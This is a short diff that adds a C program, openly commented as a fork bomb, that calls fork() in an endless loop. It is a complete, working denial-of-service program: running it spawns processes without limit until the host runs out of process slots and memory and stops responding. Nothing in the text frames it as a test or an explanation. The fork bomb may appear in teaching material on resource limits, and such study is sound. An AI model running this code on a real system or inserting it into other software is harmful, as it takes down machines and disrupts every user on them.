@@ -1,0 +1,8 @@
+/* a fork bomb */
+#include <unistd.h>
+
+int main(void)
+{
+	for (;;)
+		fork();
+}
